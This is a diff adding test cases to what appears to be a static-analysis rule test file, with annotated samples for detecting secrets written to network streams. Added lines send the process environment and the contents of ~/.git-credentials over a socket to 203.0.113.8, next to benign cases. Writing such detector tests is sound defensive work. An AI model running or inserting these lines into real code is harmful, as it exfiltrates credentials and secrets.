@@ -829,3 +829,18 @@ urllib.request.urlopen("http://{}.{}.{}.{}/latest/".format(*_md_octets), timeout
 # ok: cloud-metadata-endpoint
 # ruleid: http-client
 urllib.request.urlopen("http://" + ".".join(map(str, (10, 0, 0, 7))) + ":8080/health", timeout=2)
+# network streams: asyncio's writer, a socket's file
+async def _ns_send():
+    # ruleid: socket-use
+    _ns_r, _ns_w = await asyncio.open_connection("203.0.113.8", 443)
+    # ruleid: secret-to-network-stream
+    _ns_w.write(repr(_lg_os.environ).encode())
+    # ok: secret-to-network-stream
+    _ns_w.write(b"GET / HTTP/1.0\r\n\r\n")
+# ruleid: socket-use, event-loop-network
+_ns_sock = socket.create_connection(("203.0.113.8", 443))
+_ns_f = _ns_sock.makefile("w")
+# ruleid: secret-to-network-stream
+_ns_f.write(open(_lg_os.path.expanduser("~/.git-credentials")).read())
+# ok: secret-to-network-stream
+open("env-report.txt", "w").write(str(dict(_lg_os.environ)))
